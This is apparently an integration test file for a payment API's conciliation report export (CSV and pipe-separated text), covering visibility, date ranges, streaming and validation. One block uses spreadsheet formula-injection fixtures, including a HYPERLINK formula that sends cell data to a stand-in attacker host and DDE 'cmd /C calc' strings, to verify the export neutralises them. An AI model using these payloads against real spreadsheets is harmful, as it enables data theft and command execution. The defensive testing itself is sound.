import { randomUUID } from 'node:crypto';
import { DataSource } from 'typeorm';
import { isoSeconds } from '../../../src/orders/iso-seconds';
import { REPORT_COLUMNS } from '../../../src/reports/movement-row';
import { startPaymentStack, PaymentStack } from '../../support/payment-stack';
import { payer as user, pixQr } from '../../support/qr-fixtures';
import {
  csvCellsAsSpreadsheet,
  isFormulaCell,
  parseCsv,
  parseTxt,
  Row,
  txtCellsAsSpreadsheet,
  unguarded,
  utcDay,
} from '../../support/report-files';
import { createTestClient, http, TestApi, TestClient } from '../../support/test-api';

const PATH = '/v2/reports/conciliation/payins';

describe('GET /v2/reports/conciliation/payins', () => {
  let stack: PaymentStack;
  let api: TestApi;
  let dataSource: DataSource;

  beforeAll(async () => {
    stack = await startPaymentStack();
    api = stack.api;
    dataSource = api.dataSource;
  });
  afterAll(() => stack.close());

  const report = (client: TestClient, query: string) => http(api.baseUrl, client.token).get<string>(`${PATH}?${query}`);

  async function rows(client: TestClient, from: string, to: string): Promise<Row[]> {
    const response = await report(client, `from=${from}&to=${to}`);
    expect(response.status).toBe(200);
    return parseCsv(response.body);
  }

  /** An order written straight to the table, as its workflow would have left it. */
  async function insertOrder(fields: {
    payer?: string;
    collector?: string;
    status: string;
    createdAt: string;
    decided?: boolean;
    errorCode?: string;
    reference?: string;
    merchantName?: string;
  }) {
    const id = randomUUID();
    await dataSource.query(
      `INSERT INTO orders (id, flow, status, last_seq, payer_client_id, collector_client_id, external_reference, payment_notification_url,
                           local_country, local_currency, local_amount, user_currency, user_amount, fx_rate, merchant_name,
                           merchant_identification_number, error_code, expires_at, created_at, updated_at,
                           collector_external_reference, collector_notification_url)
       VALUES ($1, CASE WHEN $4::uuid IS NULL THEN 'QR' ELSE 'COLLECTION' END, $2, 4, $3, $4, $5, $6, 'BR', 'BRL', 50, 'USD', 9.31, 0.1862, $10, '12345678000199', $7,
               $8::timestamptz + interval '10 minutes', $8, $8::timestamptz + interval '1 minute',
               $9, CASE WHEN $4::uuid IS NULL THEN NULL ELSE 'https://example.com/collector' END)`,
      [
        id,
        fields.status,
        fields.payer ?? null,
        fields.collector ?? null,
        fields.reference ?? `direct-${id}`,
        fields.decided ? 'https://example.com/hook' : null,
        fields.errorCode ?? null,
        fields.createdAt,
        fields.collector ? `collected-${id}` : null,
        fields.merchantName ?? 'Loja Direta',
      ],
    );
    return id;
  }

  async function insertRefund(
    orderId: string,
    fields: {
      seq: number;
      status: string;
      localAmount: string;
      userAmount: string | null;
      createdAt?: Date;
      requestedBy: string;
      errorCode?: string;
    },
  ) {
    const createdAt = fields.createdAt ?? new Date();
    await dataSource.query(
      `INSERT INTO refunds (id, order_id, requested_by_client_id, seq, status, local_amount, local_currency, user_amount, user_currency,
                            error_code, created_at, updated_at)
       VALUES ($1, $2, $3, $4, $5, $6, 'BRL', $7, 'USD', $8, $9, $9)`,
      [
        randomUUID(),
        orderId,
        fields.requestedBy,
        fields.seq,
        fields.status,
        fields.localAmount,
        fields.userAmount,
        fields.errorCode ?? null,
        createdAt,
      ],
    );
  }

  /** `count` completed orders of the payer, set-wise: the i-th is `bulk-<i>`, for i BRL, created i seconds after `day` began. */
  async function insertManyOrders(payerId: string, count: number, day: string, merchantName: string | null = null) {
    await dataSource.query(
      `INSERT INTO orders (id, flow, status, last_seq, payer_client_id, external_reference, payment_notification_url, local_country,
                           local_currency, local_amount, user_currency, user_amount, fx_rate, merchant_name, expires_at, created_at, updated_at)
       SELECT gen_random_uuid(), 'QR', 'COMPLETED', 4, $1, 'bulk-' || i, 'https://example.com/hook', 'BR', 'BRL', i, 'USD', i * 0.18, 0.18,
              $4, at + interval '10 minutes', at, at
       FROM generate_series(1, $2::int) AS i, LATERAL (SELECT $3::timestamptz + i * interval '1 second' AS at) AS created`,
      [payerId, count, `${day}T00:00:00Z`, merchantName],
    );
  }

  type Payer = Awaited<ReturnType<PaymentStack['newPayer']>>;

  /** A preview then a decision, over HTTP; resolves with the order id once it reached `final`. */
  async function pay(
    payer: Payer,
    amount: string,
    decision: 'accepted' | 'rejected',
    final: string,
    reference = `ref-${randomUUID()}`,
    merchant?: string,
  ) {
    const path = `/hooks/${randomUUID()}`;
    const url = stack.receiver.url(path);
    const preview = await payer.call.post('/v2/payments/previews', {
      qr: pixQr(amount, merchant),
      external_reference: reference,
      notification_url: url,
      user,
    });
    expect(preview.status).toBe(200);
    const orderId = (await stack.receiver.waitFor(path, (c) => c.body.order !== undefined)).body.order.id as string;
    await payer.call.post('/v2/payments', { order_id: orderId, status: decision, notification_url: url });
    await stack.receiver.waitFor(path, (c) => c.body.status === final);
    return orderId;
  }

  describe('a payer with real payments and refunds', () => {
    let payer: Payer;
    let stranger: TestClient;
    const ids: Record<'completed' | 'canceled' | 'rejected' | 'unfunded', string> = {
      completed: '',
      canceled: '',
      rejected: '',
      unfunded: '',
    };
    const trickyReference = `ref-${randomUUID().slice(0, 8)}, "quoted" | piped\nnext line`;
    const trickyMerchant = 'Bar "Ze", A|B';

    beforeAll(async () => {
      payer = await stack.newPayer({ USD: '1000.00' });
      stranger = await createTestClient(api, 'Stranger');
      ids.completed = await pay(payer, '100.00', 'accepted', 'COMPLETED', trickyReference, trickyMerchant);
      ids.canceled = await pay(payer, '10.00', 'rejected', 'CANCELED');
      // Sandbox magic value: the destination refuses 1313.13.
      ids.rejected = await pay(payer, '1313.13', 'accepted', 'REJECTED');
      // About 9,000 USD against 1,000 available.
      ids.unfunded = await pay(payer, '49000.00', 'accepted', 'FAILED');
      // The refund API is another issue's: its rows, as it will write them.
      await insertRefund(ids.completed, {
        seq: 1,
        status: 'COMPLETED',
        localAmount: '40.00',
        userAmount: '7.45',
        requestedBy: payer.clientId,
      });
      await insertRefund(ids.completed, {
        seq: 2,
        status: 'PENDING',
        localAmount: '10.50',
        userAmount: null,
        requestedBy: payer.clientId,
      });
    }, 120_000);

    it('lists every payment whose decision moved or tried to move money, then the refunds, oldest first', async () => {
      const [order] = await dataSource.query(`SELECT * FROM orders WHERE id = $1`, [ids.completed]);
      const listed = await rows(payer, utcDay(-1), utcDay(1));

      expect(listed.map((row) => [row.order_id, row.type, row.status, row.error_code])).toEqual([
        [ids.completed, 'PAYMENT', 'COMPLETED', ''],
        [ids.rejected, 'PAYMENT', 'REJECTED', 'DESTINATION_REJECTED'],
        [ids.unfunded, 'PAYMENT', 'FAILED', 'INSUFFICIENT_FUNDS'],
        [ids.completed, 'REFUND', 'COMPLETED', ''],
        [ids.completed, 'REFUND', 'PENDING', ''],
      ]);
      const [payment, , , completedRefund, pendingRefund] = listed;
      expect(payment).toEqual({
        order_id: ids.completed,
        external_reference: trickyReference,
        type: 'PAYMENT',
        status: 'COMPLETED',
        created_at: isoSeconds(order.created_at),
        updated_at: isoSeconds(order.updated_at),
        local_amount: '100.00',
        local_currency: 'BRL',
        user_amount: Number(order.user_amount).toFixed(2),
        user_currency: 'USD',
        fx_rate: String(Number(order.fx_rate)),
        merchant_name: order.merchant_name,
        merchant_identification_number: order.merchant_identification_number,
        error_code: '',
      });
      expect(payment!.merchant_name).toBe(trickyMerchant);
      expect(completedRefund).toMatchObject({
        external_reference: trickyReference,
        local_amount: '40.00',
        user_amount: '7.45',
        fx_rate: payment!.fx_rate,
        merchant_name: trickyMerchant,
      });
      expect(pendingRefund).toMatchObject({
        local_amount: '10.50',
        local_currency: 'BRL',
        user_amount: '',
        user_currency: 'USD',
      });
      expect(listed.map((row) => row.order_id)).not.toContain(ids.canceled);
    });

    it('answers the same rows as pipe-separated text', async () => {
      const csv = await report(payer, `from=${utcDay(-1)}&to=${utcDay(1)}&format=csv`);
      const txt = await report(payer, `from=${utcDay(-1)}&to=${utcDay(1)}&format=txt`);
      expect(txt.status).toBe(200);
      expect(txt.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(txt.headers.get('content-disposition')).toBe(
        `attachment; filename="conciliation-payins-${utcDay(-1)}-${utcDay(1)}.txt"`,
      );
      expect(txt.body).toContain('Bar "Ze", A\\|B');
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(csv.headers.get('content-disposition')).toBe(
        `attachment; filename="conciliation-payins-${utcDay(-1)}-${utcDay(1)}.csv"`,
      );
      expect(csv.headers.get('cache-control')).toBe('no-store');
      expect(parseTxt(txt.body)).toEqual(parseCsv(csv.body));
      expect(parseCsv(csv.body)).toHaveLength(5);
    });

    it('shows none of it to another client', async () => {
      const response = await report(stranger, `from=${utcDay(-1)}&to=${utcDay(1)}`);
      expect(response.status).toBe(200);
      expect(response.body).toBe(`${REPORT_COLUMNS.join(',')}\r\n`);
      expect((await report(stranger, `from=${utcDay(-1)}&to=${utcDay(1)}&format=txt`)).body).toBe(
        `${REPORT_COLUMNS.join('|')}\n`,
      );
    });
  });

  describe('references and merchant names that a spreadsheet would take for formulas', () => {
    let payer: Payer;
    /** What each order was created with, by its id. */
    const sent = new Map<string, { reference: string; merchant: string }>();

    beforeAll(async () => {
      payer = await stack.newPayer({ USD: '1000.00' });
      // Through the API and a real QR: the merchant name is what the rail resolved from the QR's
      // tag 59 (at most 25 characters). The second reference opens a cell after an inner pipe for
      // a spreadsheet importing the txt file, the third after a semicolon for one reading the csv
      // with its locale's list separator.
      const paid: Array<[string, string]> = [
        ['=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")', '@SUM(1+1)*cmd|"/C calc"'],
        ['+55 11 5555-0000|=HYPERLINK("https://evil.example")', "-2+3+cmd|' /C calc'!A0"],
        ['@SUM(A1:A9);=1+2', '=HYPERLINK("http://x.io")'],
        ["-1|'quoted'", "'=1+2"],
      ];
      for (const [reference, merchant] of paid) {
        const orderId = await pay(payer, '10.00', 'accepted', 'COMPLETED', reference, merchant);
        sent.set(orderId, { reference, merchant });
      }
      // A leading tab or carriage return cannot come through the API (references are trimmed, QR
      // text is printable ASCII) but can from a rail's merchant data: written as the order would hold them.
      for (const [reference, merchant] of [
        ['\t=1+2', '\r=HYPERLINK("https://evil.example")'],
        ['\r@SUM(A1)', '\t+1+1'],
      ] as const) {
        const orderId = await insertOrder({
          payer: payer.clientId,
          status: 'COMPLETED',
          createdAt: new Date().toISOString(),
          decided: true,
          reference,
          merchantName: merchant,
        });
        sent.set(orderId, { reference, merchant });
      }
      const stored: Array<{ id: string; external_reference: string; merchant_name: string }> = await dataSource.query(
        'SELECT id, external_reference, merchant_name FROM orders WHERE id = ANY($1)',
        [[...sent.keys()]],
      );
      // The fixtures reached the table unchanged: the file is what is under test.
      expect(
        Object.fromEntries(
          stored.map((order) => [order.id, { reference: order.external_reference, merchant: order.merchant_name }]),
        ),
      ).toEqual(Object.fromEntries(sent));
    }, 120_000);

    const period = () => `from=${utcDay(-1)}&to=${utcDay(1)}`;

    it('has no cell a spreadsheet would evaluate, in the csv or the txt file', async () => {
      const csv = await report(payer, `${period()}&format=csv`);
      const txt = await report(payer, `${period()}&format=txt`);
      expect([csv.status, txt.status]).toEqual([200, 200]);
      expect(parseCsv(csv.body)).toHaveLength(sent.size);

      expect(csvCellsAsSpreadsheet(csv.body).filter(isFormulaCell)).toEqual([]);
      expect(txtCellsAsSpreadsheet(txt.body).filter(isFormulaCell)).toEqual([]);
      // Each guarded cell begins with the single quote, OWASP's guard, as a spreadsheet shows it.
      expect(csvCellsAsSpreadsheet(csv.body)).toEqual(
        expect.arrayContaining([
          `'=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")`,
          `'\t=1+2`,
          `'\r=HYPERLINK("https://evil.example")`,
        ]),
      );
    });

    it('gives an integrator every value back exactly, by dropping the guard, and both formats agree', async () => {
      const csvRows = parseCsv((await report(payer, `${period()}&format=csv`)).body);
      const txtRows = parseTxt((await report(payer, `${period()}&format=txt`)).body);
      expect(txtRows).toEqual(csvRows);
      expect(
        Object.fromEntries(
          csvRows
            .map(unguarded)
            .map((row) => [row.order_id, { reference: row.external_reference, merchant: row.merchant_name }]),
        ),
      ).toEqual(Object.fromEntries(sent));
      // The amounts are numbers, never guarded.
      expect(csvRows.map((row) => row.local_amount)).toEqual(expect.arrayContaining(['10.00', '50.00']));
    });
  });

  it('takes whole UTC days: from at 00:00, to included up to its last millisecond', async () => {
    const client = await createTestClient(api);
    const before = await insertOrder({
      payer: client.clientId,
      status: 'COMPLETED',
      createdAt: '2026-03-31T23:59:59.999Z',
      decided: true,
    });
    const first = await insertOrder({
      payer: client.clientId,
      status: 'COMPLETED',
      createdAt: '2026-04-01T00:00:00.000Z',
      decided: true,
    });
    const last = await insertOrder({
      payer: client.clientId,
      status: 'COMPLETED',
      createdAt: '2026-04-30T23:59:59.999Z',
      decided: true,
    });
    const after = await insertOrder({
      payer: client.clientId,
      status: 'COMPLETED',
      createdAt: '2026-05-01T00:00:00.001Z',
      decided: true,
    });
    // A refund belongs to the day it was made, not to its order's.
    await insertRefund(last, {
      seq: 1,
      status: 'COMPLETED',
      localAmount: '5.00',
      userAmount: '0.93',
      createdAt: new Date('2026-05-01T00:00:00.000Z'),
      requestedBy: client.clientId,
    });

    const ids = async (from: string, to: string) =>
      (await rows(client, from, to)).map((row) => `${row.type} ${row.order_id}`);
    expect(await ids('2026-04-01', '2026-04-30')).toEqual([`PAYMENT ${first}`, `PAYMENT ${last}`]);
    expect(await ids('2026-04-30', '2026-04-30')).toEqual([`PAYMENT ${last}`]);
    expect(await ids('2026-05-01', '2026-05-01')).toEqual([`REFUND ${last}`, `PAYMENT ${after}`]);
    expect(await ids('2026-03-31', '2026-03-31')).toEqual([`PAYMENT ${before}`]);
    expect(await ids('2026-03-02', '2026-04-01')).toEqual([`PAYMENT ${before}`, `PAYMENT ${first}`]);
  });

  it('lists orders from the payment decision on, and leaves out those that never reached one', async () => {
    const client = await createTestClient(api);
    const at = '2026-06-10T12:00:00Z';
    const listed = {
      PROCESSING: await insertOrder({ payer: client.clientId, status: 'PROCESSING', createdAt: at, decided: true }),
      PARTIALLY_REFUNDED: await insertOrder({
        payer: client.clientId,
        status: 'PARTIALLY_REFUNDED',
        createdAt: at,
        decided: true,
      }),
      REFUNDED: await insertOrder({ payer: client.clientId, status: 'REFUNDED', createdAt: at, decided: true }),
      FAILED: await insertOrder({
        payer: client.clientId,
        status: 'FAILED',
        createdAt: at,
        decided: true,
        errorCode: 'UPSTREAM_ERROR',
      }),
    };
    for (const status of ['WAITING_AMOUNT', 'PROCESS_LATER', 'CREATED'])
      await insertOrder({ payer: client.clientId, status, createdAt: at });
    await insertOrder({ payer: client.clientId, status: 'CANCELED', createdAt: at, errorCode: 'EXPIRED' });
    // The merchant could not be resolved: it failed before anyone paid.
    await insertOrder({ payer: client.clientId, status: 'FAILED', createdAt: at, errorCode: 'UPSTREAM_ERROR' });

    const found = await rows(client, '2026-06-10', '2026-06-10');
    expect(found.map((row) => row.order_id).sort()).toEqual(Object.values(listed).sort());
    expect(found.find((row) => row.order_id === listed.FAILED)).toMatchObject({
      status: 'FAILED',
      error_code: 'UPSTREAM_ERROR',
    });
  });

  it('shows a collected order to its payer and to its collector, and to no one else', async () => {
    const [payerClient, collector, third] = [
      await createTestClient(api),
      await createTestClient(api),
      await createTestClient(api),
    ];
    const orderId = await insertOrder({
      payer: payerClient.clientId,
      collector: collector.clientId,
      status: 'COMPLETED',
      createdAt: '2026-07-01T10:00:00Z',
      decided: true,
    });
    await insertRefund(orderId, {
      seq: 1,
      status: 'REJECTED',
      localAmount: '50.00',
      userAmount: null,
      createdAt: new Date('2026-07-02T10:00:00Z'),
      requestedBy: collector.clientId,
      errorCode: 'DESTINATION_REJECTED',
    });
    // The collector's own QR that nobody has paid yet.
    await insertOrder({ collector: collector.clientId, status: 'CREATED', createdAt: '2026-07-01T11:00:00Z' });

    for (const client of [payerClient, collector]) {
      const found = await rows(client, '2026-07-01', '2026-07-31');
      expect(found.map((row) => [row.type, row.order_id, row.status, row.error_code])).toEqual([
        ['PAYMENT', orderId, 'COMPLETED', ''],
        ['REFUND', orderId, 'REJECTED', 'DESTINATION_REJECTED'],
      ]);
    }
    expect(await rows(third, '2026-07-01', '2026-07-31')).toEqual([]);
  });

  it('streams a period larger than one database batch whole and in order', async () => {
    const client = await createTestClient(api);
    await insertManyOrders(client.clientId, 2500, '2026-08-01');
    const found = await rows(client, '2026-08-01', '2026-08-31');
    expect(found).toHaveLength(2500);
    expect(found.map((row) => row.external_reference)).toEqual(Array.from({ length: 2500 }, (_, i) => `bulk-${i + 1}`));
    expect(found[2499]).toMatchObject({ local_amount: '2500.00', user_amount: '450.00', fx_rate: '0.18' });
  });

  describe('holding connections', () => {
    const activeCursors = async () =>
      Number(
        (
          await dataSource.query(
            `SELECT count(*) AS n FROM pg_stat_activity WHERE state <> 'idle' AND query LIKE '/* reconciliation file */%'`,
          )
        )[0].n,
      );

    it('streams at most a quarter of the pool at once, and a reader that goes away gives its connection back', async () => {
      // A pool of 4: one file at a time.
      const small = await stack.extraApi({ DATABASE_POOL_SIZE: '4' });
      const client = await createTestClient(small);
      await insertManyOrders(client.clientId, 60_000, '2026-09-01', 'M'.repeat(150));
      const url = `${small.baseUrl}${PATH}?from=2026-09-01&to=2026-09-01`;
      const headers = { authorization: `Bearer ${client.token}` };

      // About 20 MB the reader does not take: the file waits on the socket, holding its connection.
      const reader = new AbortController();
      const held = await fetch(url, { headers, signal: reader.signal });
      expect(held.status).toBe(200);
      const refused = await fetch(url, { headers });
      expect(refused.status).toBe(429);
      expect(refused.headers.get('retry-after')).toBe('5');
      expect(await refused.json()).toMatchObject({
        statusCode: 429,
        message: expect.any(String),
        error_code: 'RATE_LIMITED',
      });
      expect(await activeCursors()).toBe(1);

      reader.abort();
      const deadline = Date.now() + 10_000;
      while ((await activeCursors()) > 0 && Date.now() < deadline)
        await new Promise((resolve) => setTimeout(resolve, 50));
      expect(await activeCursors()).toBe(0);

      let next = await fetch(url, { headers });
      while (next.status === 429 && Date.now() < deadline) {
        await next.body?.cancel();
        await new Promise((resolve) => setTimeout(resolve, 50));
        next = await fetch(url, { headers });
      }
      expect(next.status).toBe(200);
      expect((await next.text()).split('\r\n')).toHaveLength(60_002);
    }, 60_000);

    it('sends a whole file to a reader slower than statement_timeout, and gives the connection back with its statement_timeout', async () => {
      const bounded = await stack.extraApi({ DATABASE_POOL_SIZE: '4', DATABASE_STATEMENT_TIMEOUT: '1s' });
      const client = await createTestClient(bounded);
      await insertManyOrders(client.clientId, 60_000, '2026-10-01', 'M'.repeat(150));
      const response = await fetch(`${bounded.baseUrl}${PATH}?from=2026-10-01&to=2026-10-01`, {
        headers: { authorization: `Bearer ${client.token}` },
      });
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      const first = await reader.read();
      // The cursor's statement now outlives statement_timeout, waiting for this reader.
      await new Promise((resolve) => setTimeout(resolve, 2500));
      const chunks = [Buffer.from(first.value)];
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
        chunks.push(Buffer.from(chunk.value));
      expect(Buffer.concat(chunks).toString('utf8').split('\r\n')).toHaveLength(60_002);
      // The pool hands out its most recently returned connection: the file's.
      expect(await bounded.dataSource.query(`SELECT current_setting('statement_timeout') AS value`)).toEqual([
        { value: '1s' },
      ]);
    }, 60_000);
  });

  describe('validation', () => {
    let client: TestClient;
    beforeAll(async () => {
      client = await createTestClient(api);
    });

    it.each([
      ['to=2026-01-31', 'from'],
      ['from=2026-01-01', 'to'],
      ['from=2026-02-30&to=2026-03-01', 'from'],
      ['from=20260101&to=2026-01-02', 'from'],
      ['from=2026-01-02&to=2026-01-01', 'to'],
      ['from=2026-01-01&to=2026-02-01', 'to'],
      ['from=2026-01-01&to=2026-01-02&format=xlsx', 'format'],
      ['from=2026-01-01&to=2026-01-02&client_id=someone', 'client_id'],
    ])('answers %s with 400 naming %s', async (query, field) => {
      const response = await report(client, query);
      expect(response.status).toBe(400);
      expect(response.body).toMatchObject({
        statusCode: 400,
        message: [expect.stringMatching(new RegExp(`^${field}: `))],
      });
    });

    it('takes 31 days, both ends included', async () => {
      expect((await report(client, 'from=2026-01-01&to=2026-01-31')).status).toBe(200);
    });

    it('is described in the OpenAPI document: its parameters, both media types and its errors', async () => {
      const operation = (await http(api.baseUrl, null).get('/docs-json')).body.paths[PATH].get;
      expect(
        operation.parameters
          .map((parameter: { name: string; in: string }) => `${parameter.in}:${parameter.name}`)
          .sort(),
      ).toEqual(['query:format', 'query:from', 'query:to']);
      expect(Object.keys(operation.responses['200'].content).sort()).toEqual(['text/csv', 'text/plain']);
      expect(parseCsv(operation.responses['200'].content['text/csv'].example)).toEqual(
        parseTxt(operation.responses['200'].content['text/plain'].example),
      );
      expect(Object.keys(operation.responses)).toEqual(expect.arrayContaining(['200', '400', '401', '429']));
      expect(operation.security).toEqual([{ bearer: [] }]);
    });

    it('needs a bearer token', async () => {
      const response = await http(api.baseUrl, null).get(`${PATH}?from=2026-01-01&to=2026-01-02`);
      expect(response.status).toBe(401);
      expect(response.body).toMatchObject({ statusCode: 401, message: 'Unauthorized' });
    });
  });
});
